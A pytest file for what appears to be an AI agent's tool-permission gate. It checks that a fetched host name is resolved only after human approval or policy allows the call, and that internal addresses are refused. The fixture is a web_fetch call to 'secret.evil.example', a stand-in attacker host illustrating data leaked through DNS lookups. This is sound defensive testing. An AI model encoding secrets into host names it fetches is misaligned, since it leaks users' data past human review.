"""A host name gives away what an agent wrote into it: it is looked up only when all else says yes."""

from __future__ import annotations

import pytest

from core.model.call import ToolCall
from core.model.outcome import Status
from core.model.request import Answer, Review
from tests.core_system import ALICE, MAIN, Noting

FETCH = ToolCall("web_fetch", MAIN, args={"url": "https://secret.evil.example/"})


class Names:
    """Gives one answer for every name, and notes what was asked."""

    def __init__(self, *given):
        self.given, self.asked = given, []

    def addresses(self, host):
        self.asked.append(host)
        return self.given


def connecting(outcome):
    terms = outcome.decision["constraints"]
    return [term["addresses"] for term in terms if term["kind"] == "connect-to"]


def asking(**ask):
    return {"tools": {"profile": "coding", "ask": ask}}


@pytest.mark.parametrize(
    "ask", [{"tools": ["web_fetch"]}, {"domains": ["*.evil.example"]}, {"domains": ["*"]}]
)
async def test_a_question_is_put_before_the_name_is_looked_up_and_the_yes_brings_the_addresses(
    make_system, ask
):
    names = Names("93.184.216.34")
    system = make_system(asking(**ask), names=names)
    asked = await system.gate.ask(FETCH, None)
    assert asked.status is Status.PENDING
    assert (names.asked, connecting(asked)) == ([], [])
    await system.console.resolve(Review(asked.request_id, Answer.ALLOW_ONCE, ALICE))
    assert names.asked == []
    taken = await system.gate.wait("main", asked.request_id, Noting())
    assert taken.status is Status.ALLOWED
    assert connecting(taken) == [("93.184.216.34",)]
    assert "judge-redirects" in {term["kind"] for term in taken.decision["constraints"]}


async def test_a_no_of_a_person_looks_nothing_up(make_system):
    names = Names("93.184.216.34")
    system = make_system(asking(tools=["web_fetch"]), names=names)
    asked = await system.gate.ask(FETCH, None)
    await system.console.resolve(Review(asked.request_id, Answer.DENY, ALICE))
    assert (await system.gate.wait("main", asked.request_id, Noting())).status is Status.DENIED
    assert names.asked == []


@pytest.mark.parametrize("given", [("10.0.0.1",), ("93.184.216.34", "127.0.0.1"), ()])
async def test_a_yes_of_a_person_opens_no_address_inside(make_system, given):
    system = make_system(asking(tools=["web_fetch"]), names=Names(*given))
    asked = await system.gate.ask(FETCH, None)
    await system.console.resolve(Review(asked.request_id, Answer.ALLOW_ONCE, ALICE))
    taken = await system.gate.wait("main", asked.request_id, Noting())
    assert taken.status is Status.DENIED
    assert taken.reason.startswith("it was allowed, but by now")


async def test_a_standing_permission_brings_the_addresses_too(make_system):
    names = Names("93.184.216.34")
    system = make_system(asking(tools=["web_fetch"]), names=names)
    asked = await system.gate.ask(FETCH, None)
    await system.console.resolve(Review(asked.request_id, Answer.ALLOW_FOR, ALICE, for_ms=60_000))
    again = await system.gate.ask(FETCH, None)
    assert again.status is Status.ALLOWED
    assert connecting(again) == [("93.184.216.34",)]
    names.given = ("10.0.0.1",)
    assert (await system.gate.ask(FETCH, None)).status is Status.DENIED


async def test_what_is_denied_otherwise_is_not_looked_up(make_system):
    names = Names("93.184.216.34")
    system = make_system(asking(tools=["web_fetch"]), names=names)
    asked = await system.gate.ask(FETCH, None)
    await system.console.resolve(Review(asked.request_id, Answer.DENY_ALWAYS, ALICE))
    assert (await system.gate.ask(FETCH, None)).status is Status.DENIED
    free = make_system({"tools": {"profile": "coding"}}, names=names)
    await free.console.set_locked(locked=True, reviewer=ALICE)
    assert (await free.gate.ask(FETCH, None)).status is Status.DENIED
    closed = make_system({"tools": {"profile": "minimal"}}, names=names)
    assert (await closed.gate.ask(FETCH, None)).status is Status.DENIED
    assert names.asked == []


async def test_what_all_else_allows_is_looked_up_once(make_system):
    names = Names("93.184.216.34")
    outcome = await make_system({"tools": {"profile": "coding"}}, names=names).gate.ask(FETCH, None)
    assert outcome.status is Status.ALLOWED
    assert connecting(outcome) == [("93.184.216.34",)]
    assert names.asked == ["secret.evil.example"]
